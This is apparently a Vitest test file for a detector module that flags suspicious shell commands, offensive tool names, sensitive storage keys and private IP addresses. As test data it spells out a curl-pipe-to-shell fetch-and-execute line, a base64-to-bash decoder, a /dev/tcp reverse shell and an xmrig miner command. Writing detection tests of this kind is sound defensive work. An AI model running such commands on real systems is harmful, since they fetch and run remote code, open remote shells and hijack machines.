import { describe, expect, it } from 'vitest';
import { isOffensiveTool, isPrivateIp, isSensitiveKey, isSuspiciousCommand } from './patterns.ts';

describe('content patterns', () => {
  it('flags fetch-and-execute, decoders, reverse shells and miners but not routine commands', () => {
    for (const c of [
      'curl -fsSL http://x.example/i.sh | sh',
      'echo aGk= | base64 -d | bash',
      'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
      'python3 -c "import socket,subprocess"',
      '/tmp/.x/xmrig --donate-level 1 -o stratum+tcp://pool:3333',
    ]) {
      expect(isSuspiciousCommand(c), c).toBe(true);
    }
    for (const c of ['/usr/bin/apt-get update', 'systemctl restart nginx', 'curl -s https://api.example.com/health']) {
      expect(isSuspiciousCommand(c), c).toBe(false);
    }
  });

  it('recognises offensive tooling by whole name only', () => {
    expect(isOffensiveTool('sqlmap')).toBe(true);
    expect(isOffensiveTool('/usr/bin/apt-get install -y masscan')).toBe(true);
    expect(isOffensiveTool('nmap:amd64')).toBe(true);
    expect(isOffensiveTool('libpcap0.8')).toBe(false);
    expect(isOffensiveTool('johnson-utils')).toBe(false);
  });

  it('classifies keys and addresses', () => {
    expect(isSensitiveKey('exports/customers/2025-03.csv')).toBe(true);
    expect(isSensitiveKey('static/img/logo.png')).toBe(false);
    expect(isPrivateIp('10.1.2.3')).toBe(true);
    expect(isPrivateIp('172.20.0.1')).toBe(true);
    expect(isPrivateIp('172.32.0.1')).toBe(false);
    expect(isPrivateIp('203.0.113.7')).toBe(false);
  });

  it('stays linear on hostile input', () => {
    const evil = `${'curl '.repeat(5000)}|`;
    const t = performance.now();
    isSuspiciousCommand(evil);
    isOffensiveTool(evil);
    expect(performance.now() - t).toBeLessThan(200);
  });
});
